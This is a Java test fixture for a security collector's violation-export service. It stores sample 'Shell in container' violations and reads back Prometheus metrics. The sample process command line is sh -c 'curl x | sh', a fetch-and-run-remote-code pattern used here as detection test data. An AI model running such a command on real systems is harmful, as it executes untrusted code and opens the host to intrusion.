package io.agentguard.collector.export;

import com.google.protobuf.Timestamp;
import io.agentguard.collector.store.JdbcStore;
import io.agentguard.proto.v1.Priority;
import io.agentguard.proto.v1.ProcessInfo;
import io.agentguard.proto.v1.Record;
import io.agentguard.proto.v1.Violation;
import io.agentguard.proto.v1.Workload;
import io.agentguard.proto.v1.WorkloadKind;
import io.prometheus.metrics.model.registry.PrometheusRegistry;
import io.prometheus.metrics.model.snapshots.CounterSnapshot;
import io.prometheus.metrics.model.snapshots.GaugeSnapshot;
import io.prometheus.metrics.model.snapshots.MetricSnapshot;

import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BooleanSupplier;

/** A collector database with violations stored the way agents' batches store them, and exports run on it. */
final class ExportFixture implements AutoCloseable {
    final String db;
    final JdbcStore store;
    PrometheusRegistry registry = new PrometheusRegistry();
    private long sequence;
    private ExportService service;

    ExportFixture(Path dir) throws Exception {
        db = "sqlite:" + dir.resolve("collector.db");
        store = JdbcStore.open(db);
    }

    static Violation violation(String rule, Priority p, String output) {
        return Violation.newBuilder().setRule(rule).setPriority(p).setOutput(output).addTags("test")
                .setTime(Timestamp.newBuilder().setSeconds(1_700_000_000L).setNanos(5_000_000))
                .setCgroupPath("/kubepods/pod1/abc")
                .setProcess(ProcessInfo.newBuilder().setPid(4242).setUid(1000).setComm("sh").setExe("/bin/sh")
                        .setCmdline("sh -c 'curl x | sh'"))
                .setWorkload(Workload.newBuilder().setKind(WorkloadKind.WORKLOAD_KIND_KUBERNETES).setRuntime("containerd")
                        .setContainerId("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")
                        .setPodUid("11111111-2222-3333-4444-555555555555").setPodName("web-1").setPodNamespace("shop"))
                .build();
    }

    /** Stores n violations from node, rule "Shell in container", outputs "v<seq>"; returns their sequences. */
    List<Long> store(String node, int n) throws Exception {
        List<Record> records = new ArrayList<>();
        List<Long> seqs = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            long s = ++sequence;
            seqs.add(s);
            records.add(Record.newBuilder().setSequence(s)
                    .setViolation(violation("Shell in container", Priority.PRIORITY_CRITICAL, "v" + s)).build());
        }
        store.append(node, "e1", records, "test");
        return seqs;
    }

    void store(String node, Violation v) throws Exception {
        store.append(node, "e1", List.of(Record.newBuilder().setSequence(++sequence).setViolation(v).build()), "test");
    }

    void start(String yaml) throws Exception {
        if (service != null) {
            service.close();
        }
        registry = new PrometheusRegistry();   // a collector process registers its exports' metrics once
        service = new ExportService(store, db, ExportsConfig.parseYaml(yaml, "test.yaml"), registry, Duration.ofMillis(20));
        service.start();
    }

    /** Stops the exports, as a collector stopping does. */
    void stop() {
        if (service != null) {
            service.close();
            service = null;
        }
    }

    /** A metric's value for export (counters by their name without _total). */
    double metric(String name, String export) {
        for (MetricSnapshot m : registry.scrape()) {
            if (!m.getMetadata().getPrometheusName().equals(name.replaceAll("_total$", ""))) {
                continue;
            }
            for (var p : m.getDataPoints()) {
                if (export.equals(p.getLabels().get("export"))) {
                    return p instanceof CounterSnapshot.CounterDataPointSnapshot c ? c.getValue()
                            : ((GaugeSnapshot.GaugeDataPointSnapshot) p).getValue();
                }
            }
        }
        throw new AssertionError("no " + name + "{export=" + export + "}");
    }

    /** Waits (generously: this is not a timing assertion) for condition. */
    static void await(String what, BooleanSupplier condition) throws InterruptedException {
        long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
        while (!condition.getAsBoolean()) {
            if (System.nanoTime() > deadline) {
                throw new AssertionError("timed out waiting for: " + what);
            }
            Thread.sleep(10);
        }
    }

    @Override
    public void close() throws Exception {
        stop();
        store.close();
    }
}
